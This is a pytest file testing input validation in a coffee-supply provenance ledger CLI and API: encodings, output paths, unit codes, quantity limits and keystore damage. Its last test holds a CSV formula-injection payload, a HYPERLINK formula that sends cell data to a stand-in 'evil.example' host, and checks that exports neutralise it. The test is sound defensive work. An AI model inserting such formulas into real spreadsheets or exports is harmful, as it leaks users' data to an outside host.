"""Every bad input of issue 10 through the real CLI on a real chain: one clear sentence,
a non-zero exit, no traceback, and nothing written to the chain when a local check fails.

(a) a CSV that is not UTF-8; (b) a --qr path that cannot be written; (c) an export -o
path that cannot be written; (d) a unit outside UN/ECE Recommendation 20; (e) the largest
quantity (2^64 - 1) end to end, and one more refused; (f) verifying a lot that does not
exist; (g) a damaged keystore versus a wrong password; and the FSMA 204 CSV export
neutralising formulas on every path that writes it.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from ledger.identifiers import batch_id, lot_bytes

GTIN = "09506000134352"
FARM = "node:1"
MAX = 2**64 - 1


@pytest.fixture(scope="module", autouse=True)
def organisations(local_ledger):
    """The farm is a supplier holding the GS1 Company Prefix 9506000 (every GTIN below)."""
    from ledger.config import Settings
    from ledger.connection import LedgerConnection
    from ledger.models import LicenceScope
    from ledger.signers import NodeAccountSigner
    from ledger.writer import LedgerWriter

    conn = LedgerConnection.open(Settings(data_dir=local_ledger.data_dir, rpc_url=local_ledger.rpc_url))
    accounts = conn.w3.eth.accounts
    admin = LedgerWriter(conn, NodeAccountSigner(accounts[0]))
    admin.register_actor(accounts[1], "Finca Mala Entrada", "CO")
    admin.grant_supplier(accounts[1])
    admin.grant_licence(accounts[1], LicenceScope.company_prefix("9506000"))
    return accounts


@pytest.fixture
def index_env(tmp_path) -> dict[str, str]:
    """A fresh index database for one test (the module's chain is rewound between tests)."""
    return {"PROVENANCE_DATABASE_URL": f"sqlite:///{tmp_path / 'index.sqlite'}"}


def register(cli, lot: str, *extra: str, quantity: str = "100", unit: str = "KGM", account: str = FARM):
    return cli(
        "batch",
        "register",
        "--account",
        account,
        "--gtin",
        GTIN,
        "--lot",
        lot,
        "--quantity",
        quantity,
        "--unit",
        unit,
        "--product",
        "Green coffee",
        *extra,
    )


def on_chain(local_ledger, lot: str) -> bool:
    """Whether the chain holds a registration of `lot` (read from the chain's logs)."""
    from ledger.artifacts import load_artifact

    w3 = local_ledger.web3()
    contract = w3.eth.contract(address=local_ledger.address, abi=load_artifact().abi)
    return bool(contract.events.BatchRegistered().get_logs(from_block=0, argument_filters={"batchId": batch_id(GTIN, lot)}))


def refused(code: int, out: str, err: str, *sentence: str) -> None:
    """A refusal: exit code 1, one `error:` line holding every part of `sentence`, no traceback."""
    assert code == 1, out + err
    assert "Traceback" not in out + err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    for part in sentence:
        assert part in lines[0], lines[0]


# ------------------------------------------------------------------ (a) CSV that is not UTF-8

CSV_TEXT = "gtin,lot,quantity,unit,product,origin\n{gtin},ENC-1,10,KGM,Caf\u00e9 vert,Huila\n{gtin},ENC-2,10,KGM,Coffee,Huila\n"


@pytest.mark.parametrize(
    ("encoding", "sentence"),
    [
        (
            "latin-1",
            ("is not UTF-8 text: line 2, byte 32 of that line is 0xe9 (\u00e9 in Windows-1252)", "save it again as UTF-8"),
        ),
        ("cp1252", ("is not UTF-8 text: line 2", "save it again as UTF-8")),
        ("utf-16", ("is UTF-16 text, not UTF-8", "save it again as UTF-8")),
    ],
)
def test_csv_that_is_not_utf8_is_refused_whole_and_nothing_is_registered(cli, local_ledger, tmp_path, encoding, sentence):
    path = tmp_path / "batches.csv"
    path.write_bytes(CSV_TEXT.format(gtin=GTIN).encode(encoding))
    block = local_ledger.block_number()
    code, out, err = cli("batch", "import", str(path), "--account", FARM)
    refused(code, out, err, str(path), *sentence)
    assert local_ledger.block_number() == block
    assert not on_chain(local_ledger, "ENC-1") and not on_chain(local_ledger, "ENC-2")  # not even the plain-ASCII row


def test_csv_in_utf8_with_a_byte_order_mark_is_imported(cli, local_ledger, tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes(CSV_TEXT.format(gtin=GTIN).encode("utf-8-sig"))  # what Excel's "CSV UTF-8" writes
    code, out, err = cli("batch", "import", str(path), "--account", FARM, "--json")
    assert code == 0, out + err
    assert json.loads(out)["registered"] == 2
    assert on_chain(local_ledger, "ENC-1") and on_chain(local_ledger, "ENC-2")


def test_csv_that_the_csv_reader_refuses_gets_a_sentence(cli, local_ledger, tmp_path):
    path = tmp_path / "broken.csv"
    # A damaged file: one "field" of 200,000 characters (the CSV reader's limit is 131,072).
    path.write_text(f"gtin,lot,quantity,unit,product\n{GTIN},BIG-1,10,KGM,{'x' * 200_000}\n")
    code, out, err = cli("batch", "import", str(path), "--account", FARM)
    refused(code, out, err, f"{path} is not a readable CSV file", "field larger than field limit")
    assert not on_chain(local_ledger, "BIG-1")


def test_csv_with_a_short_row_names_the_row(cli, local_ledger, tmp_path):
    path = tmp_path / "short.csv"
    path.write_text(f"gtin,lot,quantity,unit,product\n{GTIN},SHORT-1,10\n{GTIN},SHORT-2,10,KGM,Coffee\n")
    code, out, err = cli("batch", "import", str(path), "--account", FARM, "--json")
    assert code == 1 and "Traceback" not in out + err
    summary = json.loads(out)
    assert summary["registered"] == 1 and [e["line"] for e in summary["errors"]] == [2]
    assert summary["errors"][0]["error"] == "the row ends early: it has no unit, product (check for a missing comma)"
    assert not on_chain(local_ledger, "SHORT-1") and on_chain(local_ledger, "SHORT-2")


# ------------------------------------------------------------------ (b) --qr that cannot be written


@pytest.mark.parametrize(
    ("qr", "sentence"),
    [
        ("missing/folder/bag.png", ("the folder", "missing/folder does not exist", "create it first or choose another path")),
        ("bag.gif", ("--qr", "must end in .svg or .png")),
        (".", ("is a folder: give a file name inside it",)),
        ("file.txt/bag.png", ("file.txt is not a folder",)),
    ],
    ids=["missing-folder", "wrong-extension", "a-folder", "parent-is-a-file"],
)
def test_qr_path_is_checked_before_anything_is_registered(cli, local_ledger, tmp_path, qr, sentence):
    (tmp_path / "file.txt").write_text("not a folder")
    block = local_ledger.block_number()
    code, out, err = register(cli, "QR-1", "--qr", str(tmp_path / qr))
    refused(code, out, err, *sentence)
    assert local_ledger.block_number() == block
    assert not on_chain(local_ledger, "QR-1")


def test_a_good_qr_path_still_registers_and_writes(cli, local_ledger, tmp_path):
    code, out, err = register(cli, "QR-2", "--qr", str(tmp_path / "bag.svg"))
    assert code == 0, err
    assert on_chain(local_ledger, "QR-2") and (tmp_path / "bag.svg").read_text().lstrip().startswith("<?xml")


# ------------------------------------------------------------------ (c) export -o that cannot be written


@pytest.mark.parametrize("kind", ["csv", "epcis"])
def test_export_output_path_is_checked_before_the_export(cli, tmp_path, index_env, kind):
    assert register(cli, "EXP-1")[0] == 0
    assert cli("index", env=index_env)[0] == 0
    target = tmp_path / "missing" / f"lot.{kind}"
    code, out, err = cli("export", kind, GTIN, "EXP-1", "-o", str(target), env=index_env)
    refused(code, out, err, "--output", "the folder", "does not exist")
    assert not target.parent.exists()
    # The check comes first: even a lot the index does not know gets the path's sentence.
    code, out, err = cli("export", kind, GTIN, "NO-SUCH-LOT", "-o", str(target), env=index_env)
    refused(code, out, err, "does not exist")
    code, out, err = cli("export", kind, GTIN, "EXP-1", "-o", str(tmp_path / f"lot.{kind}"), env=index_env)
    assert code == 0, err
    assert (tmp_path / f"lot.{kind}").stat().st_size > 0


def test_proof_output_path_is_checked_before_reading_the_chain(cli, tmp_path):
    assert register(cli, "PRF-1")[0] == 0
    code, out, err = cli("proof", GTIN, "PRF-1", "-o", str(tmp_path / "nowhere" / "proof.json"))
    refused(code, out, err, "--output", "nowhere does not exist")


def test_claim_sign_output_path_is_checked_before_signing(cli, local_ledger, keystore, tmp_path):
    code, out, err = cli(
        "claim",
        "sign",
        "--claim",
        "FAIRTRADE",
        "--batch",
        GTIN,
        "QR-2",
        "--account",
        "mill",
        "-o",
        str(tmp_path / "nowhere" / "signed.json"),
    )
    refused(code, out, err, "--output", "nowhere does not exist")
    assert not (local_ledger.data_dir / "signed-nonces.json").exists()  # no nonce handed out


# ------------------------------------------------------------------ (d) units of UN/ECE Recommendation 20


def test_the_unit_list_is_recommendation_20_in_full():
    from ledger.units import rec20_units, unit_name

    units = rec20_units()
    assert len(units) == 1756  # every code, not a hand-picked few
    assert (unit_name("KGM"), unit_name("H87"), unit_name("LTR"), unit_name("C62")) == ("kilogram", "piece", "litre", "one")
    assert unit_name("ZZZ") is None and unit_name("XBX") is None  # Rec 21 package codes are not units


@pytest.mark.parametrize(
    ("unit", "sentence"),
    [
        ("ZZZ", ("unit 'ZZZ' is not a UN/ECE Rec 20 unit code", "KGM (kilogram)", "provenance batch units")),
        ("kilogram", ("unit 'kilogram' is not a UN/ECE Rec 20 unit code", "that is the name of the unit; give its code, KGM")),
        ("XBX", ("unit 'XBX' is not a UN/ECE Rec 20 unit code",)),
    ],
)
def test_unit_outside_recommendation_20_is_refused_on_the_command_line(cli, local_ledger, unit, sentence):
    block = local_ledger.block_number()
    code, out, err = register(cli, "UNIT-1", unit=unit)
    refused(code, out, err, *sentence)
    assert local_ledger.block_number() == block and not on_chain(local_ledger, "UNIT-1")


def test_unit_outside_recommendation_20_is_refused_in_a_csv_import(cli, local_ledger, tmp_path):
    path = tmp_path / "units.csv"
    path.write_text(f"gtin,lot,quantity,unit,product\n{GTIN},UNIT-2,10,ZZZ,Coffee\n{GTIN},UNIT-3,10,kgm,Coffee\n")
    code, out, err = cli("batch", "import", str(path), "--account", FARM, "--json")
    assert code == 1 and "Traceback" not in out + err
    summary = json.loads(out)
    assert summary["registered"] == 1 and summary["errors"][0]["line"] == 2
    assert "unit 'ZZZ' is not a UN/ECE Rec 20 unit code" in summary["errors"][0]["error"]
    assert not on_chain(local_ledger, "UNIT-2") and on_chain(local_ledger, "UNIT-3")


def test_unit_outside_recommendation_20_is_refused_by_the_model_the_writer_takes():
    from ledger.errors import InvalidInputError
    from ledger.models import BatchCreate

    with pytest.raises(InvalidInputError, match="not a UN/ECE Rec 20 unit code"):
        BatchCreate(gtin=GTIN, lot="UNIT-4", quantity=1, unit="ZZZ", product="Coffee")
    assert BatchCreate(gtin=GTIN, lot="UNIT-4", quantity=1, unit="mtk", product="Floor").unit == "MTK"


def test_batch_units_finds_codes_by_name(cli):
    code, out, _ = cli("batch", "units", "litre")
    assert code == 0 and "LTR" in out and "litre" in out
    code, out, err = cli("batch", "units", "no unit is called this")
    refused(code, out, err, "no UN/ECE Rec 20 unit")


def test_a_unit_put_on_chain_by_another_client_still_shows(cli, local_ledger, organisations, tmp_path, index_env):
    """The contract takes any three bytes: readers (batch show, index, page, export) must show
    a unit outside the list, not refuse it."""
    from fastapi.testclient import TestClient

    from api.main import create_app
    from ledger.artifacts import load_artifact
    from ledger.config import Settings
    from ledger.documents import DocumentStore

    w3 = local_ledger.web3()
    contract = w3.eth.contract(address=local_ledger.address, abi=load_artifact().abi)
    document = {
        "schema": "provenance-ledger/batch-metadata/1",
        "gtin": GTIN,
        "lot": "RAW-ZZZ",
        "product": "Odd unit",
        "quantity": 7,
        "unit": "ZZZ",
    }
    digest = DocumentStore(local_ledger.data_dir / "documents").put_json(document)
    tx = contract.functions.registerBatch((int(GTIN), lot_bytes("RAW-ZZZ"), 7, b"ZZZ", digest)).transact(
        {"from": organisations[1]}
    )
    assert w3.eth.wait_for_transaction_receipt(tx)["status"] == 1
    code, out, err = cli("batch", "show", GTIN, "RAW-ZZZ")
    assert code == 0, err
    assert "7 of 7 ZZZ left" in out
    code, out, err = cli("index", env=index_env)
    assert code == 0, err
    code, out, err = cli("export", "csv", GTIN, "RAW-ZZZ", env=index_env)
    assert code == 0, err
    assert next(csv.DictReader(io.StringIO(out)))["unit_of_measure"] == "ZZZ"
    settings = Settings(
        data_dir=local_ledger.data_dir, rpc_url=local_ledger.rpc_url, database_url=index_env["PROVENANCE_DATABASE_URL"]
    )
    with TestClient(create_app(settings)) as client:
        page = client.get(f"/01/{GTIN}/10/RAW-ZZZ")
    assert page.status_code == 200 and "7 ZZZ" in page.text


# ------------------------------------------------------------------ (e) the largest quantity


def test_the_documented_maximum_quantity_works_end_to_end(cli, local_ledger, index_env):
    from fastapi.testclient import TestClient

    from api.main import create_app
    from ledger.config import Settings

    code, out, err = register(cli, "MAX-1", "--json", quantity=str(MAX))
    assert code == 0, err
    assert json.loads(out)["status"] == "registered"
    code, out, err = register(cli, "MAX-1", "--json", quantity=str(MAX))  # idempotent: the same hash again
    assert code == 0 and json.loads(out)["status"] == "already_registered", err
    code, out, err = cli("batch", "show", GTIN, "MAX-1", "--json")
    shown = json.loads(out)
    assert (shown["registered_quantity"], shown["remaining_quantity"], shown["product"]) == (MAX, MAX, "Green coffee")
    assert cli("index", env=index_env)[0] == 0
    code, out, err = cli("verify", GTIN, "MAX-1", env=index_env)
    assert code == 0, out + err
    assert "Verified:" in out
    settings = Settings(
        data_dir=local_ledger.data_dir, rpc_url=local_ledger.rpc_url, database_url=index_env["PROVENANCE_DATABASE_URL"]
    )
    with TestClient(create_app(settings)) as client:
        page = client.get(f"/01/{GTIN}/10/MAX-1")
    assert page.status_code == 200 and f"{MAX:,}" in page.text


def test_one_more_than_the_maximum_is_refused_before_sending(cli, local_ledger):
    block = local_ledger.block_number()
    code, out, err = register(cli, "MAX-2", quantity=str(MAX + 1))
    refused(code, out, err, f"quantity {MAX + 1} is too large (at most {MAX} base units)")
    assert local_ledger.block_number() == block and not on_chain(local_ledger, "MAX-2")


def test_metadata_hashes_of_quantities_that_worked_before_are_unchanged():
    """Quantities up to 2^53 - 1 stay JSON numbers (their documents hash as they always
    did); only larger ones are written as decimal text."""
    from ledger.documents import metadata_hash
    from ledger.models import BatchCreate

    def document(quantity: int) -> dict:
        return BatchCreate(gtin=GTIN, lot="H-1", quantity=quantity, unit="KGM", product="Coffee").metadata_document()

    assert document(60_000)["quantity"] == 60_000 and document(2**53 - 1)["quantity"] == 2**53 - 1
    assert document(2**53)["quantity"] == str(2**53) and document(MAX)["quantity"] == str(MAX)
    # Pinned: the hash this document had before the change (a change here orphans every
    # lot registered so far: its re-registration would be a conflict).
    assert metadata_hash(document(60_000)).hex() == "c37c699bfb3143e230d78d4fc73b87044d7d3f9d449c9666526ad3306413d67a"


# ------------------------------------------------------------------ (f) verify of a lot that does not exist


def test_verify_of_a_lot_that_is_not_on_the_ledger_fails(cli, index_env):
    assert register(cli, "VER-1")[0] == 0
    assert cli("index", env=index_env)[0] == 0
    code, out, err = cli("verify", GTIN, "NO-SUCH-LOT", env=index_env)
    refused(code, out, err, "lot NO-SUCH-LOT of GTIN 09506000134352 is not on this ledger", "check the GTIN and lot")
    assert "Verified" not in out


def test_verify_of_a_lot_not_indexed_yet_says_so(cli, index_env):
    assert register(cli, "VER-2")[0] == 0
    assert cli("index", env=index_env)[0] == 0
    assert register(cli, "VER-3")[0] == 0  # after the index's block
    code, out, err = cli("verify", GTIN, "VER-3", env=index_env)
    refused(code, out, err, "lot VER-3 of GTIN 09506000134352 was registered in block", "run `provenance index`")
    assert cli("index", env=index_env)[0] == 0
    code, out, err = cli("verify", GTIN, "VER-3", env=index_env)
    assert code == 0 and "Verified:" in out, out + err


def test_verify_with_an_empty_index_says_so(cli, tmp_path):
    assert register(cli, "VER-4")[0] == 0
    code, out, err = cli("verify", GTIN, "VER-4", env={"PROVENANCE_DATABASE_URL": f"sqlite:///{tmp_path / 'empty.sqlite'}"})
    refused(code, out, err, "the index is empty: run `provenance index` first")


# ------------------------------------------------------------------ (g) damaged keystore versus wrong password


@pytest.fixture
def keystore(cli, local_ledger):
    """A keystore account `mill` (password from the environment), removed after the test."""
    code, out, err = cli("account", "new", "mill", "--json")
    assert code == 0, err
    path = local_ledger.data_dir / "keystore" / "mill.json"
    original = path.read_text()
    yield path, original
    path.unlink()


def _truncated(text: str) -> str:
    return text[: len(text) // 2]


def _wrong_structure(text: str) -> str:
    data = json.loads(text)
    del data["crypto"]["mac"]
    return json.dumps(data)


def _short_ciphertext(text: str) -> str:
    data = json.loads(text)
    data["crypto"]["ciphertext"] = data["crypto"]["ciphertext"][:20]
    return json.dumps(data)


@pytest.mark.parametrize(
    ("damage", "why"),
    [
        (_truncated, "not JSON"),
        (lambda text: "\x00\x01 definitely not a keystore", "not JSON"),
        (lambda text: "[1, 2, 3]", "a JSON list, not an object"),
        (_wrong_structure, "the 'crypto' section lacks mac"),
        (_short_ciphertext, "its ciphertext is not 64 hex digits"),
    ],
    ids=["truncated", "not-json", "a-list", "no-mac", "short-ciphertext"],
)
def test_a_damaged_keystore_is_not_reported_as_a_wrong_password(cli, local_ledger, keystore, damage, why):
    path, original = keystore
    path.write_text(damage(original))
    block = local_ledger.block_number()
    code, out, err = register(cli, "KEY-1", account="mill")
    refused(code, out, err, f"the keystore file {path} is damaged (not a valid keystore: {why}", "restore it from a backup")
    assert "wrong password" not in err
    assert local_ledger.block_number() == block
    code, out, err = cli("account", "list")
    assert code == 0 and "is damaged" in err and "mill" not in out


def test_a_wrong_password_is_still_called_a_wrong_password(cli, keystore):
    code, out, err = cli(
        "batch",
        "register",
        "--account",
        "mill",
        "--gtin",
        GTIN,
        "--lot",
        "KEY-2",
        "--quantity",
        "1",
        "--unit",
        "KGM",
        "--product",
        "Coffee",
        env={"PROVENANCE_KEYSTORE_PASSWORD": "not the password"},
    )
    refused(code, out, err, "wrong password for the keystore 'mill'")
    assert "damaged" not in err


# ------------------------------------------------------------------ formula injection in the FSMA 204 CSV


HOSTILE_PLACE = '=HYPERLINK("http://evil.example/?"&A1,"verified")'


def test_every_fsma_csv_export_neutralises_formulas(cli, local_ledger, tmp_path, index_env):
    """The CLI export (to standard output and to a file) and the API's download all write
    the hostile location with a leading apostrophe, so no spreadsheet evaluates it."""
    from fastapi.testclient import TestClient

    from api.main import create_app
    from ledger.config import Settings

    assert register(cli, "CSV-1")[0] == 0
    code, _, err = cli("batch", "step", GTIN, "CSV-1", "--account", FARM, "--step", "inspecting", "--location", HOSTILE_PLACE)
    assert code == 0, err
    assert cli("index", env=index_env)[0] == 0

    def locations(text: str) -> list[str]:
        return [row["location_description"] for row in csv.DictReader(io.StringIO(text))]

    code, out, err = cli("export", "csv", GTIN, "CSV-1", env=index_env)
    assert code == 0, err
    assert "'" + HOSTILE_PLACE in locations(out) and HOSTILE_PLACE not in locations(out)
    target = tmp_path / "fsma.csv"
    assert cli("export", "csv", GTIN, "CSV-1", "-o", str(target), env=index_env)[0] == 0
    assert "'" + HOSTILE_PLACE in locations(target.read_text())
    settings = Settings(
        data_dir=local_ledger.data_dir, rpc_url=local_ledger.rpc_url, database_url=index_env["PROVENANCE_DATABASE_URL"]
    )
    with TestClient(create_app(settings)) as client:
        download = client.get(f"/api/v1/batches/0x{batch_id(GTIN, 'CSV-1').hex()}/fsma.csv")
    assert download.status_code == 200
    assert "'" + HOSTILE_PLACE in locations(download.text) and HOSTILE_PLACE not in locations(download.text)
